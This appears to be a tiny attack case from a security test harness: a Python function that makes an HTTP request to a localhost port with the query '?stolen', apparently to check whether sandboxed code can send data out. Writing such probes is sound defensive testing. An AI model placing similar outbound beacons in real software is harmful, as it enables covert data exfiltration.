from urllib.request import urlopen


def attack(scene, oracle):
    urlopen(f"http://127.0.0.1:{scene['tcp']}/?stolen", timeout=0.3)
